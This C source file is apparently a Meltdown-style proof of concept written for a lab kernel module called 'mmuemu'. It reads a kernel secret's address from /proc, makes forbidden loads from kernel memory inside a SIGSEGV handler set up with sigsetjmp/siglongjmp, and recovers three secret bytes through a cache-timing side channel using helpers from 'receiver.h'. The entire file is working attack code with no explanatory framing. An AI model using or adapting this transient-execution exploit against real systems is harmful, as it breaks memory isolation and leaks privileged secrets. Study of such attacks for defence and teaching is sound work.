/* A forbidden load for every try, left by siglongjmp; the secret is the kernel's. */
#define STRIDE 512
#include "receiver.h"
#include <setjmp.h>
#include <signal.h>

static sigjmp_buf back;

static void caught(int number) {
    (void)number;
    siglongjmp(back, 1);
}

static unsigned long number_in(const char *path, int base) {
    char text[32] = "";
    FILE *file = fopen(path, "r");
    if (!file || !fgets(text, sizeof text, file)) return 0;
    fclose(file);
    return strtoul(text, NULL, base);
}

int main(void) {
    unsigned long place = number_in("/proc/mmuemu/secret_address", 16);
    calibrate(1000);
    for (size_t at = 0; at < 3; at++) {
        start();
        int found = NOTHING;
        for (int round = 0; round < 20 && found == NOTHING; round++) {
            struct sigaction action = {.sa_handler = caught}, before;
            number_in("/proc/mmuemu/secret_length", 10); /* The kernel reads its secret. */
            sigaction(SIGSEGV, &action, &before);
            forget();
            if (!sigsetjmp(back, 1)) touch(line(*(volatile uint8_t *)(place + at)));
            sigaction(SIGSEGV, &before, NULL);
            look(-1);
            found = best(3);
        }
        putchar(found);
    }
    putchar('\n');
    return 0;
}
